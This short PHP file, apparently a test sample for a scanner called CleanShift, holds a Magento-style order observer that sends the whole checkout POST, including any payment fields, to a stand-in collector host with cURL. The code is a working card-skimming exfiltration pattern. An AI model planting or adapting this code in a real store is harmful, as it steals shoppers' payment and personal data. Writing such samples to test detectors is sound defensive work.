<?php
// CleanShift test sample: the technique is real, the payload is harmless.
// An order observer that ships the whole checkout POST to a fixed address.
class Example_Patch_Model_Observer
{
    public function orderPlaced($observer)
    {
        $url = 'https://collector.example.invalid/gate.php';
        $order = $observer->getEvent()->getOrder();
        $fields = http_build_query(array('order' => $order->getIncrementId()) + $this->flatten($_POST));
        $ch = curl_init($url);
        curl_setopt($ch, CURLOPT_POSTFIELDS, $fields);
        curl_exec($ch);
    }

    private function flatten(array $data)
    {
        return $data;
    }
}
